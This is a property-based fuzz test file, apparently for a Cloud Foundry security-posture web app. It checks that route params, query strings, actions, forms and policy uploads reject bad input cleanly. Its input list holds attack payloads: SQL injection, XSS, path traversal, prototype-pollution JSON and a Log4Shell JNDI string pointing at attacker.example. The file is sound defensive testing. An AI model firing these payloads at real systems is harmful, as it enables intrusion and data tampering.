import type { APIRequestContext, APIResponse } from "@playwright/test";
import fc from "fast-check";
import { MESSAGES } from "../lib/failures/messages";
import { ids } from "../sim/seed";
import { expect, test } from "./support/fixtures";
import { historyKeys } from "./support/history";
import { expectErrorBody, pageText, unhandledMarks } from "./support/responses";
import { callAction, callFormAction, type ActionName } from "./support/server-actions";
import type { Sim } from "./support/sim";

/**
 * Bad input (issue 15): fast-check generates route params, query strings,
 * form fields, action arguments and API bodies: huge, unicode, injection-
 * shaped, wrong-typed, with prototype-pollution keys. Whatever comes in, the
 * answer is never a 5xx, never a change (no write reaches CF, the history
 * gains nothing), and always a clear message: a page without an exception,
 * the one JSON error body, or an action's refusal with its field errors.
 * Runs are bounded (RUNS per property) and seeded; a failure prints the seed
 * and the counterexample, and FC_SEED=<seed> replays it.
 */

const { orgs: o, spaces: s, securityGroups: g, isolationSegments: iso } = ids;
const SEED = Number(process.env.FC_SEED ?? 20_261_130);
const RUNS = Number(process.env.FC_RUNS ?? 60);

/* ---- What bad input looks like ---- */

const GUID = o.alpha;
const NASTY: string[] = [
  "",
  " ",
  ".",
  "..",
  "../../v3/security_groups",
  "..%2F..%2Fv3%2Fsecurity_groups",
  "%2e%2e%2f%2e%2e%2f",
  "' OR '1'='1' --",
  '"; DROP TABLE history_entries; --',
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "javascript:alert(1)",
  "${jndi:ldap://attacker.example/x}",
  "{{7*7}}",
  "__proto__",
  "constructor",
  "prototype",
  "hasOwnProperty",
  "\u0000",
  "\u202e\u2066txt.exe",
  "😀🚀👩‍👩‍👧",
  "Ω≈ç√∫˜µ≤≥÷",
  "ﷺ",
  "null",
  "undefined",
  "NaN",
  "-1",
  "1e309",
  "0x1F",
  "true",
  "[]",
  "{}",
  "$undefined",
  "$K1",
  "$$",
  GUID.toUpperCase(),
  ` ${GUID}`,
  `${GUID}\n`,
  `${GUID}/..`,
  `${GUID},${o.beta}`,
  "00000000-0000-0000-0000-000000000000",
  "a".repeat(10_000),
];

/** Lone surrogates replaced: a URL cannot carry them (the rest of the text goes as it is). */
const wellFormed = (t: string) =>
  t.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, "\uFFFD");

/** Text as an attacker sends it. */
const text = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 2, arbitrary: fc.string({ maxLength: 80 }) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ minLength: 3_000, maxLength: 30_000 }) },
  { weight: 1, arbitrary: fc.uuid() },
);

/** Keys that pollute prototypes, or are not the action's at all. */
const badKey = fc.oneof(
  fc.constantFrom("__proto__", "constructor", "prototype", "toString"),
  fc.string({ maxLength: 20 }),
);

/** Any JSON value, wrong-typed for whatever it is put in. */
const anyJson = fc.oneof(
  fc.jsonValue({ maxDepth: 4 }),
  text,
  fc.constantFrom(null, true, false, 0, -1, 1e308, [], {}),
  fc.array(text, { maxLength: 5 }),
);

/** A path segment as a URL carries it: percent-encoded, or raw (malformed escapes and all). */
const segment = fc.oneof(
  { weight: 4, arbitrary: text.map((t) => encodeURIComponent(wellFormed(t))) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      "%",
      "%zz",
      "%E0%A4%A",
      "%00",
      "..",
      ".%2e",
      "%2F",
      "a%2Fb",
      "%C0%AF",
      "%FF%FE",
    ),
  },
);

/* ---- Checks ---- */

/** A page or a data route answered with a clear state: no 5xx, no exception; data in the one error body. */
async function expectClear(response: APIResponse, at: string, kind: "page" | "data"): Promise<void> {
  const body = await response.text();
  expect(response.status(), `${at}: ${body.slice(0, 300)}`).toBeLessThan(500);
  // An address longer than the HTTP server takes (16 kB of request line and headers in Node) is
  // refused by the server itself, before the app, with 431 and no body, as a router in front would.
  if (response.status() === 431) return;
  if (kind === "page") {
    expect(unhandledMarks(body), at).toEqual([]);
    if (response.status() === 404) expect(body, at).toMatch(/not found/);
    else if (response.status() === 200) expect(pageText(body).trim().length, at).toBeGreaterThan(0);
  } else if (response.status() >= 400) {
    const parsed = JSON.parse(body) as { error?: { kind?: unknown; message?: unknown } };
    expect(typeof parsed.error?.kind, at).toBe("string");
    expect(typeof parsed.error?.message, at).toBe("string");
    expect(String(parsed.error?.message).length, at).toBeGreaterThan(0);
  }
}

/** Nothing changed: no write reached CF since the last clear, and the history gained nothing. */
async function expectNoChange(sim: Sim, admin: APIRequestContext, history: string[]): Promise<void> {
  expect(await sim.writes()).toEqual([]);
  expect(await historyKeys(admin)).toEqual(history);
}

const assertOptions = (name: string) => {
  test.info().annotations.push({ type: "fast-check", description: `${name}: seed ${SEED}, ${RUNS} runs` });
  return { seed: SEED, numRuns: RUNS, endOnFailure: true };
};

/* ---- Route params ---- */

type Template = { kind: "page" | "data"; path: (x: string, y: string) => string };
const TEMPLATES: Template[] = [
  { kind: "page", path: (x) => `/orgs/${x}` },
  { kind: "page", path: (x) => `/orgs/${x}/activity` },
  { kind: "page", path: (x) => `/orgs/${x}/policy` },
  { kind: "page", path: (x, y) => `/orgs/${x}/spaces/${y}` },
  { kind: "page", path: (x) => `/orgs/${o.alpha}/spaces/${x}` },
  { kind: "page", path: (x) => `/security-groups/${x}` },
  { kind: "data", path: (x) => `/orgs/${x}/activity.csv` },
  { kind: "data", path: (x) => `/orgs/${x}/posture.csv` },
  { kind: "data", path: (x) => `/api/orgs/${x}/posture` },
  { kind: "data", path: (x) => `/api/orgs/${x}/matrix` },
  { kind: "data", path: (x) => `/api/orgs/${x}/policy` },
  { kind: "data", path: (x) => `/api/orgs/${x}/policy/plan` },
  {
    kind: "data",
    path: (x, y) => `/api/orgs/${x}/spaces/${y}/preview?lifecycle=running&action=bind&profile=public`,
  },
  {
    kind: "data",
    path: (x) => `/api/orgs/${o.alpha}/spaces/${x}/preview?lifecycle=running&action=bind&profile=public`,
  },
  { kind: "data", path: (x, y) => `/api/orgs/${x}/spaces/${y}/reach?host=10.10.0.12&port=5432` },
];

test("route params: any org, space or group guid gets a clear answer, never a 5xx", async ({
  requestAs,
  sim,
}) => {
  test.slow();
  const [olivia, admin] = [await requestAs("olivia"), await requestAs("admin")];
  const history = await historyKeys(admin);
  await sim.clearRequests();
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...TEMPLATES), segment, segment, async (template, x, y) => {
      const path = template.path(x, y);
      // A URL's dot segments ("..", ".%2e") are resolved before it is sent: judge the path that is.
      const sent = new URL(path, "http://localhost").pathname;
      const kind =
        sent.startsWith("/api/") || /^\/orgs\/[^/]+\/(activity|posture)\.csv$/.test(sent) ? "data" : "page";
      await expectClear(await olivia.get(path, { maxRedirects: 0 }), `GET ${path.slice(0, 200)}`, kind);
    }),
    assertOptions("route params"),
  );
  await expectNoChange(sim, admin, history);
});

/* ---- Query strings ---- */

/** A host for "can my app reach …?" that is not a resolvable name (no DNS lookups from the tests). */
const host = fc.oneof(
  fc.constantFrom(...NASTY),
  fc.ipV4(),
  fc.ipV6(),
  text.map((t) => `${t}<`),
);

type QueryTarget = { kind: "page" | "data"; path: string; params: fc.Arbitrary<[string, string][]> };
const pairs = (keys: string[], value: fc.Arbitrary<string> = text) =>
  fc.array(fc.tuple(fc.oneof(fc.constantFrom(...keys), badKey), value), { maxLength: 8 });

const QUERIES: QueryTarget[] = [
  {
    kind: "page",
    path: `/orgs/${o.alpha}/activity`,
    params: pairs(["space", "kind", "from", "to", "cursor"]),
  },
  {
    kind: "data",
    path: `/orgs/${o.alpha}/activity.csv`,
    params: pairs(["space", "kind", "from", "to", "cursor"]),
  },
  { kind: "page", path: "/orgs", params: pairs(["q"]) },
  { kind: "page", path: "/security-groups", params: pairs(["q"]) },
  { kind: "page", path: `/orgs/${o.alpha}`, params: pairs(["violations", "posture", "q"]) },
  {
    kind: "page",
    path: `/orgs/${o.alpha}/spaces/${s.alphaDev}`,
    params: fc
      .array(fc.tuple(fc.constantFrom("host", "port", "protocol"), fc.oneof(host, text)), { maxLength: 4 })
      .map(
        // The host is always one that cannot be looked up, wherever it lands.
        (list) =>
          list.map(([k, v]): [string, string] => [k, k === "host" && /^[a-z0-9.-]+$/i.test(v) ? `${v}_` : v]),
      ),
  },
  {
    kind: "data",
    path: `/api/orgs/${o.alpha}/spaces/${s.alphaDev}/reach`,
    params: fc
      .array(fc.tuple(fc.oneof(fc.constantFrom("host", "port", "protocol"), badKey), fc.oneof(host, text)), {
        maxLength: 4,
      })
      .map((list) =>
        list.map(([k, v]): [string, string] => [k, k === "host" && /^[a-z0-9.-]+$/i.test(v) ? `${v}_` : v]),
      ),
  },
  {
    kind: "data",
    path: `/api/orgs/${o.alpha}/spaces/${s.alphaDev}/preview`,
    params: pairs(["lifecycle", "action", "profile", "group"]),
  },
  { kind: "data", path: `/api/orgs/${o.alpha}/policy/plan`, params: pairs(["space"]) },
];

test("query strings: filters, searches and questions of any shape get a clear answer, never a 5xx", async ({
  requestAs,
  sim,
}) => {
  test.slow();
  const [olivia, admin] = [await requestAs("olivia"), await requestAs("admin")];
  const history = await historyKeys(admin);
  await sim.clearRequests();
  await fc.assert(
    fc.asyncProperty(
      fc.integer({ min: 0, max: QUERIES.length - 1 }).chain((i) =>
        fc.tuple(
          fc.constant(QUERIES[i] as QueryTarget).map(({ kind, path }) => ({ kind, path })),
          (QUERIES[i] as QueryTarget).params,
        ),
      ),
      async ([target, params]) => {
        const query = new URLSearchParams(params.map(([k, v]) => [wellFormed(k), wellFormed(v)]));
        const path = `${target.path}?${query.toString()}`;
        await expectClear(
          await olivia.get(path, { maxRedirects: 0 }),
          `GET ${path.slice(0, 200)}`,
          target.kind,
        );
      },
    ),
    assertOptions("query strings"),
  );
  await expectNoChange(sim, admin, history);
});

/* ---- Server actions ---- */

/** Each JSON action's fields, and values that none of them accepts. */
const NOT_A_GUID = text.filter(
  (t) => !/^[0-9a-f]{8}-[0-9a-f]{4}-[1-8][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/i.test(t),
);
/** Values of another type than any field's (not lists: an empty one is valid for some fields). */
const wrongType = fc.oneof(
  fc.integer(),
  fc.boolean(),
  fc.constant(null),
  fc.dictionary(badKey, anyJson, { maxKeys: 3 }),
);
const invalid = {
  guid: fc.oneof(NOT_A_GUID, wrongType),
  guids: fc.oneof(
    fc.constant([]),
    fc.array(NOT_A_GUID, { minLength: 1, maxLength: 5 }),
    fc.constant(Array.from({ length: 5001 }, () => o.alpha)),
    wrongType,
  ),
  enumOf: (...allowed: string[]) =>
    fc.oneof(
      text.filter((t) => !allowed.includes(t)),
      wrongType,
    ),
  boolean: fc.oneof(text, fc.integer(), fc.constant(null), fc.array(fc.boolean(), { maxLength: 2 })),
  revision: fc.oneof(fc.integer({ max: -1 }), fc.double({ noInteger: true }), text),
  segment: fc.oneof(NOT_A_GUID, fc.integer(), fc.array(anyJson, { maxLength: 2 })),
  ops: fc.oneof(
    fc.array(
      text.filter((t) => !/^(bind|unbind):[0-9a-fA-F-]{36}$/.test(t)),
      { minLength: 1, maxLength: 3 },
    ),
    wrongType,
  ),
};

type JsonAction = {
  name: ActionName;
  valid: Record<string, unknown>;
  fields: Record<string, fc.Arbitrary<unknown>>;
};

/** A valid call of each (which would change CF), and what makes each field invalid. */
const JSON_ACTIONS: JsonAction[] = [
  {
    name: "changeProfile",
    valid: {
      orgGuid: o.alpha,
      spaceGuid: s.alphaDev,
      profileId: "public",
      lifecycle: "running",
      enabled: true,
    },
    fields: {
      orgGuid: invalid.guid,
      spaceGuid: invalid.guid,
      profileId: invalid.enumOf("public", "trusted-local"),
      lifecycle: invalid.enumOf("running", "staging"),
      enabled: invalid.boolean,
    },
  },
  {
    name: "bindProfileToSpaces",
    valid: { orgGuid: o.alpha, spaceGuids: [s.alphaDev], profileId: "public", lifecycle: "running" },
    fields: {
      orgGuid: invalid.guid,
      spaceGuids: invalid.guids,
      profileId: invalid.enumOf("public", "trusted-local"),
      lifecycle: invalid.enumOf("running", "staging"),
    },
  },
  {
    name: "changeGroup",
    valid: {
      orgGuid: o.alpha,
      spaceGuid: s.alphaDev,
      groupGuid: g.public,
      lifecycle: "running",
      action: "bind",
    },
    fields: {
      orgGuid: invalid.guid,
      spaceGuid: invalid.guid,
      groupGuid: invalid.guid,
      lifecycle: invalid.enumOf("running", "staging"),
      action: invalid.enumOf("bind", "unbind"),
    },
  },
  {
    name: "assignSegment",
    valid: { orgGuid: o.alpha, spaceGuid: s.alphaStaging, segmentGuid: iso.alphaDedicated },
    fields: { orgGuid: invalid.guid, spaceGuid: invalid.guid, segmentGuid: invalid.segment },
  },
  {
    name: "bringIntoPolicy",
    valid: { orgGuid: o.alpha, revision: 0, spaces: [{ guid: s.alphaSandbox, ops: [`unbind:${g.public}`] }] },
    fields: {
      orgGuid: invalid.guid,
      revision: invalid.revision,
      spaces: fc.oneof(
        fc.constant([]),
        fc.array(fc.record({ guid: invalid.guid, ops: fc.constant([]) }), { minLength: 1, maxLength: 2 }),
        fc.array(fc.record({ guid: fc.constant(s.alphaSandbox), ops: invalid.ops }), {
          minLength: 1,
          maxLength: 2,
        }),
        wrongType,
      ),
    },
  },
];

/** Arguments that must be refused: a valid call with one field spoiled, an extra key, or no call at all. */
function badArgs(action: JsonAction): fc.Arbitrary<unknown> {
  const spoiled = fc
    .constantFrom(...Object.keys(action.fields))
    .chain((field) =>
      (action.fields[field] as fc.Arbitrary<unknown>).map((value) => ({ ...action.valid, [field]: value })),
    );
  const extra = fc.tuple(badKey, anyJson).map(([key, value]) => {
    const args: Record<string, unknown> = { ...action.valid };
    // An own property even for "__proto__", as JSON.parse makes it on the server.
    Object.defineProperty(args, key in action.valid ? `${key}_` : key, { value, enumerable: true });
    return args;
  });
  const missing = fc
    .subarray(Object.keys(action.valid), { minLength: 1 })
    .map((gone) => Object.fromEntries(Object.entries(action.valid).filter(([k]) => !gone.includes(k))));
  return fc.oneof(spoiled, extra, missing, anyJson);
}

test("action arguments: wrong-typed, huge, unicode, injection-shaped or polluting arguments are refused in words", async ({
  requestAs,
  serverActions,
  sim,
}) => {
  test.slow();
  const [olivia, admin] = [await requestAs("olivia"), await requestAs("admin")];
  const history = await historyKeys(admin);
  await sim.clearRequests();
  await fc.assert(
    fc.asyncProperty(
      fc.constantFrom(...JSON_ACTIONS).chain((a) => fc.tuple(fc.constant(a), badArgs(a))),
      async ([action, args]) => {
        const call = await callAction(olivia, serverActions[action.name], args);
        const at = `${action.name}(${JSON.stringify(args)?.slice(0, 200)}): ${call.text.slice(0, 300)}`;
        expect(call.status, at).toBe(200);
        expect(call.result, at).toMatchObject({ ok: false, kind: "invalid", message: MESSAGES.invalidInput });
        expect(Object.keys(call.result?.fieldErrors ?? {}).length, at).toBeGreaterThan(0);
      },
    ),
    assertOptions("action arguments"),
  );
  await expectNoChange(sim, admin, history);
});

/* ---- Forms ---- */

/** A form's fields: the real ones with bad values, sometimes repeated, and fields it does not have. */
function badForm(
  fields: string[],
  values: fc.Arbitrary<string>,
): fc.Arbitrary<Record<string, string | string[]>> {
  return fc
    .tuple(
      fc.record(
        Object.fromEntries(
          fields.map((f) => [f, fc.oneof(values, fc.array(values, { minLength: 2, maxLength: 3 }))]),
        ),
        {
          requiredKeys: [],
        },
      ),
      fc.dictionary(badKey, values, { maxKeys: 2 }),
    )
    .map(([real, extra]) => ({ ...extra, ...real }) as Record<string, string | string[]>);
}

test("the private-egress form: any fields are refused with field errors, and nothing is requested", async ({
  requestAs,
  serverActions,
  sim,
}) => {
  test.slow();
  const [olivia, admin] = [await requestAs("olivia"), await requestAs("admin")];
  const history = await historyKeys(admin);
  await sim.clearRequests();
  const form = badForm(
    ["orgGuid", "endpointIp", "privateCidrs", "endpointType", "endpointOther", "appCount"],
    fc.oneof(text, fc.constantFrom(o.alpha, "52.20.30.40", "10.20.0.0/16", "checkpoint", "3")),
  );
  await fc.assert(
    fc.asyncProperty(form, async (fields) => {
      const call = await callFormAction(olivia, serverActions.requestPrivateEgress, fields);
      const at = `${JSON.stringify(fields).slice(0, 300)}: ${call.text.slice(0, 300)}`;
      expect(call.status, at).toBe(200);
      expect(call.result?.ok, at).toBe(false);
      expect(call.result?.kind, at).toBe("invalid");
      expect(Object.keys(call.result?.fieldErrors ?? {}).length, at).toBeGreaterThan(0);
    }),
    assertOptions("private-egress form"),
  );
  await expectNoChange(sim, admin, history);
});

/** Policy documents that are not valid ones: any JSON, JSON with polluting keys, text, huge text. */
const badPolicy = fc.oneof(
  fc.json({ maxDepth: 4 }),
  fc.dictionary(badKey, fc.jsonValue({ maxDepth: 3 }), { maxKeys: 4 }).map((d) => JSON.stringify(d)),
  fc
    .record({
      version: fc.jsonValue(),
      rules: fc.array(fc.dictionary(badKey, fc.jsonValue({ maxDepth: 2 })), { maxLength: 3 }),
    })
    .map((d) => JSON.stringify(d)),
  fc.constant(
    `{"__proto__": {"isAdmin": true}, "version": 1, "rules": [], "default": null, "constructor": {"prototype": {"x": 1}}}`,
  ),
  fc.constant(`${"[".repeat(10_000)}${"]".repeat(10_000)}`),
  fc.constant(
    `{"version": 1, "rules": [${Array.from({ length: 200 }, () => '{"spaces": "*", "require": {"posture": "closed"}}').join(",")}], "default": null}`,
  ),
  text,
);

test("the policy, by its form and its API: any document is refused with reasons, and nothing is saved", async ({
  requestAs,
  serverActions,
  sim,
}) => {
  test.slow();
  const [olivia, admin] = [await requestAs("olivia"), await requestAs("admin")];
  const history = await historyKeys(admin);
  await sim.clearRequests();
  const ifMatch = fc.option(
    fc.oneof(
      text.map((t) => t.replace(/[^\x20-\x7e]/g, "")),
      fc.constantFrom("*", '"0"', 'W/"1"', '"-1"'),
    ),
    { nil: undefined },
  );
  await fc.assert(
    fc.asyncProperty(
      badPolicy,
      fc.oneof(fc.constant("0"), text),
      ifMatch,
      async (policy, revision, match) => {
        const form = await callFormAction(olivia, serverActions.savePolicy, {
          orgGuid: o.alpha,
          revision,
          policy,
        });
        const at = `${policy.slice(0, 200)} (revision ${revision.slice(0, 20)}): ${form.text.slice(0, 300)}`;
        expect(form.status, at).toBe(200);
        expect(form.result?.ok, at).toBe(false);
        expect(["invalid", "conflict"], at).toContain(form.result?.kind);

        const put = await olivia.put(`/api/orgs/${o.alpha}/policy`, {
          headers: {
            "Content-Type": "application/json",
            ...(match === undefined ? {} : { "If-Match": match }),
          },
          data: policy,
        });
        const status = put.status();
        expect([400, 412, 422], `PUT ${at}: ${status}`).toContain(status);
        await expectErrorBody(put, { status, kind: status === 412 ? "conflict" : "invalid" });
      },
    ),
    assertOptions("policy documents"),
  );
  await expectNoChange(sim, admin, history);
});
